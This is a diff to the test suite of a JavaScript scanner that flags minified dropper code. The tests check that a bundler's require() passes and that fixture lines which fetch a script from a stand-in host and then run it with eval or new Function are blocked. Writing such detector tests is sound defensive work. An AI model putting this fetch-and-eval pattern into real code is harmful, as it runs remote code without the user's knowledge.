@@ -71,6 +71,13 @@ describe("a minified bundle's one-letter names are followed only near the fetch"
     expect(scan({ "scripts/bot.js": bundle(CLIENT, filler, COMPILER) }).decision).not.toBe("blocked");
   });
 
+  it("does not block a bundler's require of a module id whose letter a client function elsewhere uses for a reply", () => {
+    const LOADER = "function L(e){return require(e)}";
+    expect(scan({ "scripts/bot.js": bundle(CLIENT.replace("let v=", "let e="), filler, LOADER) }).decision).not.toBe("blocked");
+    // The attacker's variant: the reply evaluated right after its fetch, one-letter names and all.
+    expect(scan({ "scripts/bot.js": bundle(filler, "let r=await fetch(\"https://cdn-metrics.net/p.js\")", "let e=await r.text()", "eval(e)") }).decision).toBe("blocked");
+  });
+
   it("keeps the block for a minified dropper, and for the same names in code that is not minified", () => {
     // The attacker's variants: the reply run a statement or two after the fetch, with one-letter names.
     expect(scan({ "scripts/bot.js": bundle(filler, "let r=await fetch(\"https://cdn-metrics.net/p.js\")", "let t=await r.text()", "new Function(t)()") }).decision).toBe("blocked");
